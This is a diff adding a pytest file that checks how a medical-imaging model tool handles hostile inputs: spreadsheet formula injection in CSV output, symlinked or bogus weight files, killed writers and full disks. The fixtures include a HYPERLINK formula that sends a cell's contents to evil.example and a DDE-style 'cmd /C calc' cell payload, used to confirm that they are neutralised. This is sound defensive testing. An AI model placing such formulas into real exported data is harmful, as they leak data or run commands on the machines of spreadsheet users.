@@ -1,0 +1,335 @@
+"""Hostile but ordinary inputs: each gets a message that names the file or the key, never a
+traceback, and nothing medadapt writes lets a spreadsheet or a figure misread it.
+
+Issue 31's items, one test (or more) each; the fuzz-style walk of every command over a
+table of such inputs is test_no_hostile_input_ends_as_an_internal_error.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import resource
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+import yaml
+from click.testing import CliRunner
+
+from medadapt.engine.atomic import atomic_file, atomic_folder, remove_abandoned
+from medadapt.engine.card import ModelCard
+from medadapt.engine.cli import cli
+from medadapt.engine.errors import ExitCode
+from medadapt.engine.model import build_classifier, save_model
+from medadapt.engine.output import csv_cell, csv_row
+from medadapt.engine.plugins import get_plugin_host
+
+CARD = {
+    "site": "Hostile Hospital",
+    "intended_use": "tests.",
+    "classes": ["benign", "malignant"],
+    "positive_class": "malignant",
+    "preprocessing": {
+        "window": {"level": 40, "width": 400},
+        "spacing_mm": [2.0, 1.0, 1.0],
+        "patch_mode": "2d",
+        "patch_size": [24, 24],
+    },
+    "backbone": {"name": "small-cnn"},
+}
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+@pytest.fixture
+def model(tmp_path) -> Path:
+    torch.manual_seed(0)
+    registry = get_plugin_host().registry()
+    network = build_classifier(registry.create("backbones", "small-cnn", {}), "2d", 2)
+    return save_model(tmp_path / "model", network, ModelCard.model_validate(CARD))
+
+
+@pytest.fixture(autouse=True, scope="module")
+def _plugin_commands():
+    get_plugin_host().add_commands(cli)  # as the console script does (phantom, inspect)
+
+
+def invoke(*args: str):
+    return CliRunner().invoke(cli, list(args))
+
+
+def refused_plainly(result, *named: str) -> None:
+    """Exit 2 (invalid input), a message naming each of ``named``, no traceback."""
+    assert result.exit_code == ExitCode.INVALID_INPUT, result.output
+    assert "Traceback" not in result.output
+    assert "internal error" not in result.output
+    for name in named:
+        assert name in result.output, (name, result.output)
+
+
+# --- CSV cells that a spreadsheet would run ---------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(start):
+    assert csv_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+
+
+def test_numbers_and_plain_text_stay_as_they_are_in_csv():
+    assert csv_row([-0.25, "+3", "1e-5", "GE MEDICAL SYSTEMS", None, 7]) == [
+        "-0.25",
+        "+3",
+        "1e-5",
+        "GE MEDICAL SYSTEMS",
+        "",
+        "7",
+    ]
+
+
+def test_predictions_csv_neutralises_a_formula_in_a_dicom_attribute(tmp_path):
+    import numpy as np
+
+    from medadapt.engine.components import SampleRecord, Split
+    from medadapt.engine.evaluate import Predictions
+    from medadapt.engine.validate import _write_predictions
+
+    record = SampleRecord("patient-1", "series-1", "", {"manufacturer": FORMULA}, "benign")
+    made = Predictions(np.array([0.25]), np.array([0]), ["patient-1"], [record])
+    profile = type("P", (), {"report": type("R", (), {"subgroups": ["manufacturer"]})})()
+    _write_predictions(tmp_path / "p.csv", {"model": {Split.TEST: made}}, profile)
+    [row] = list(csv.DictReader((tmp_path / "p.csv").open()))
+    assert row["manufacturer"] == "'" + FORMULA
+    assert row["score"] == "0.25"
+
+
+# --- text drawn into figures -----------------------------------------------------------------
+
+
+def test_a_dollar_in_a_site_name_is_drawn_as_it_is_not_read_as_mathtext(tmp_path):
+    from medadapt.engine.output import pyplot
+
+    plt = pyplot()
+    figure, axis = plt.subplots()
+    axis.set_title(r"Clinic $\alpha^{$ North")
+    figure.savefig(tmp_path / "figure.png")  # mathtext fails on this text
+    plt.close(figure)
+    assert (tmp_path / "figure.png").stat().st_size > 0
+
+
+# --- exports and bundles ---------------------------------------------------------------------
+
+
+def test_export_refuses_a_symbolic_link_as_out_by_name(tmp_path, model):
+    bundle = tmp_path / "bundle"
+    assert invoke("model", "export", str(model), "--format", "monai-bundle", "--out",
+                  str(bundle)).exit_code == 0  # fmt: skip
+    link = tmp_path / "current"
+    link.symlink_to(bundle)
+    result = invoke("model", "export", str(model), "--format", "monai-bundle", "--out", str(link),
+                    "--overwrite")  # fmt: skip
+    refused_plainly(result, str(link), "symbolic link")
+    assert (bundle / "configs" / "metadata.json").is_file()  # left as it was
+
+
+@pytest.mark.parametrize("inside", ["weights.safetensors", "card.json", "."])
+def test_export_never_writes_over_the_model_it_is_made_from(tmp_path, model, inside):
+    before = (model / "weights.safetensors").read_bytes()
+    out = model / inside
+    result = invoke("model", "export", str(model), "--format", "torchscript", "--out", str(out),
+                    "--overwrite")  # fmt: skip
+    refused_plainly(result, "the export would replace the model it is made from")
+    assert (model / "weights.safetensors").read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    "content", [b"hello world\n", b"e" * 100, b"PK\x03\x04not a zip", b"\x80\x02}q\x00."]
+)
+def test_a_bundle_whose_weights_are_not_weights_is_refused_by_file(tmp_path, content):
+    from medadapt.engine.errors import InvalidInputError
+    from medadapt.engine.weights import load_weights_file
+
+    path = tmp_path / "model.pt"
+    path.write_bytes(content)
+    with pytest.raises(InvalidInputError, match=r"model\.pt: (not a PyTorch weights file|refused)"):
+        load_weights_file(path)
+
+
+def _bundle(tmp_path: Path, model: Path) -> Path:
+    bundle = tmp_path / "bundle"
+    result = invoke("model", "export", str(model), "--format", "monai-bundle", "--out",
+                    str(bundle))  # fmt: skip
+    assert result.exit_code == 0, result.output
+    return bundle
+
+
+def _profile(tmp_path: Path) -> Path:
+    document = {
+        "site": {"name": "Hostile Hospital"},
+        "intended_use": "tests",
+        "body_region": "chest",
+        "task": {"classes": ["benign", "malignant"], "positive_class": "malignant"},
+        "preprocessing": CARD["preprocessing"],
+        "backbone": {"name": "small-cnn"},
+        "acceptance": {"min_auroc": 0.5},
+    }
+    path = tmp_path / "site.yaml"
+    path.write_text(yaml.safe_dump(document))
+    return path
+
+
+@pytest.mark.parametrize("kind", ["text", "link to text", "dangling link", "link to a folder"])
+def test_a_bundle_with_broken_weights_is_refused_by_file_on_import(tmp_path, model, kind):
+    bundle = _bundle(tmp_path, model)
+    weights = bundle / "models" / "model.pt"
+    weights.unlink()
+    if kind == "text":
+        weights.write_text("these are not weights\n")
+    elif kind == "link to text":
+        (tmp_path / "notes.txt").write_text("these are not weights\n")
+        weights.symlink_to(tmp_path / "notes.txt")
+    elif kind == "dangling link":
+        weights.symlink_to(tmp_path / "gone.pt")
+    else:
+        weights.symlink_to(tmp_path)
+    result = invoke("model", "import", str(bundle), "-p", str(_profile(tmp_path)), "--out",
+                    str(tmp_path / "imported"))  # fmt: skip
+    named = "gone.pt" if kind == "dangling link" else "model.pt"
+    refused_plainly(result, named)
+    assert not (tmp_path / "imported").exists()
+
+
+def test_a_bundle_whose_weights_lie_outside_it_is_imported_with_a_note(tmp_path, model):
+    bundle = _bundle(tmp_path, model)
+    weights = bundle / "models" / "model.pt"
+    store = tmp_path / "store"
+    store.mkdir()
+    weights.rename(store / "blob")
+    weights.symlink_to(store / "blob")
+    result = invoke("model", "import", str(bundle), "-p", str(_profile(tmp_path)), "--out",
+                    str(tmp_path / "imported"))  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert "symbolic link that leaves the bundle" in result.output
+
+
+# --- temporaries, read-only folders, full disks ----------------------------------------------
+
+
+def test_temporaries_of_a_killed_writer_are_removed_by_the_next_writer(tmp_path):
+    target = tmp_path / "model.ts"
+    left = [tmp_path / ".model.ts.abc123.tmp", tmp_path / ".bundle.xyz.tmp"]
+    left[0].write_bytes(b"half")
+    left[1].mkdir()
+    (left[1] / "models").mkdir()
+    with atomic_file(target) as temporary:
+        assert not left[0].exists()
+        temporary.write_bytes(b"whole")
+    with atomic_folder(tmp_path / "bundle") as folder:
+        assert not left[1].exists()
+        (folder / "x").write_text("x")
+    assert target.read_bytes() == b"whole"
+    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_a_temporary_that_a_living_writer_holds_is_left_alone(tmp_path):
+    target = tmp_path / "model.ts"
+    with atomic_file(target) as temporary:
+        temporary.write_bytes(b"being written")
+        assert remove_abandoned(target) == []
+        assert temporary.exists()
+
+
+def test_a_temporary_left_by_a_killed_export_is_cleaned_by_the_next_export(tmp_path, model):
+    """A real kill -9 in the middle of writing, then the same command again."""
+    script = (
+        "import sys, time\n"
+        "from pathlib import Path\n"
+        "from medadapt.engine.atomic import atomic_file\n"
+        "with atomic_file(Path(sys.argv[1])) as t:\n"
+        "    t.write_bytes(b'half'); print('writing', flush=True); time.sleep(60)\n"
+    )
+    out = tmp_path / "m.ts"
+    writer = subprocess.Popen([sys.executable, "-c", script, str(out)], stdout=subprocess.PIPE)
+    assert writer.stdout.readline().strip() == b"writing"
+    writer.send_signal(signal.SIGKILL)
+    writer.wait()
+    assert [p.name.startswith(".m.ts.") for p in tmp_path.glob(".m.ts.*.tmp")] == [True]
+    result = invoke("model", "export", str(model), "--format", "torchscript", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert list(tmp_path.glob(".m.ts.*.tmp")) == []
+
+
+def test_a_read_only_out_is_named_by_out_not_by_its_temporary(tmp_path, model):
+    folder = tmp_path / "readonly"
+    folder.mkdir()
+    folder.chmod(0o555)
+    try:
+        if os.access(folder, os.W_OK):
+            pytest.skip("this user writes anywhere (root): a read-only folder cannot be made")
+        for fmt, name in (("torchscript", "m.ts"), ("monai-bundle", "bundle")):
+            result = invoke("model", "export", str(model), "--format", fmt, "--out",
+                            str(folder / name))  # fmt: skip
+            refused_plainly(result, f"{folder / name}: Permission denied")
+            assert ".tmp" not in result.output
+    finally:
+        folder.chmod(0o755)
+
+
+def test_a_temporary_that_cannot_be_made_is_named_by_the_target(tmp_path, monkeypatch):
+    import errno
+    import tempfile
+
+    def refuse(*, dir: str, prefix: str, suffix: str) -> None:
+        name = os.path.join(dir, f"{prefix}k3j9{suffix}")
+        raise PermissionError(errno.EACCES, "Permission denied", name)
+
+    monkeypatch.setattr(tempfile, "mkstemp", refuse)
+    monkeypatch.setattr(tempfile, "mkdtemp", refuse)
+    for make in (atomic_file, atomic_folder):
+        with pytest.raises(PermissionError) as raised, make(tmp_path / "out"):
+            pass
+        assert raised.value.filename == str(tmp_path / "out")
+
+
+def _limited(limit_bytes: int) -> None:
+    """In the child: files may grow to ``limit_bytes`` only, as on a disk that is full."""
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG instead
+    resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))
+
+
+@pytest.mark.parametrize("fmt", ["torchscript", "monai-bundle"])
+def test_an_export_onto_a_full_disk_is_said_plainly_and_leaves_nothing(tmp_path, model, fmt):
+    out = tmp_path / ("m.ts" if fmt == "torchscript" else "bundle")
+    done = subprocess.run(
+        [sys.executable, "-m", "medadapt.engine", "model", "export", str(model), "--format", fmt,
+         "--out", str(out)],
+        capture_output=True, text=True, preexec_fn=lambda: _limited(4096), timeout=300,
+        check=False,
+    )  # fmt: skip
+    assert done.returncode == ExitCode.INVALID_INPUT, done.stderr[-2000:]
+    assert "Traceback" not in done.stderr
+    assert f"{out}" in done.stderr
+    assert "File too large" in done.stderr
+    assert not out.exists()
+    assert list(tmp_path.glob(f".{out.name}.*.tmp")) == []
+
+
+# --- settings out of range -------------------------------------------------------------------
+
+
+def test_a_phantom_of_a_billion_patients_is_refused_by_its_option(tmp_path):
+    result = invoke("phantom", str(tmp_path / "site"), "--patients", "1000000000")
+    assert result.exit_code == ExitCode.INVALID_INPUT
+    assert "--patients 1000000000: Input should be less than or equal to 100000" in result.output
+    assert "Traceback" not in result.output
+    assert not (tmp_path / "site").exists()
+
+
+def test_a_seed_no_random_generator_takes_is_refused_by_profile_check(write_profile):
+    path = write_profile(seed=2**70)
+    result = invoke("profile", "check", str(path))
+    assert result.exit_code == ExitCode.INVALID_INPUT
+    assert "seed: Input should be less than 2147483648" in result.output
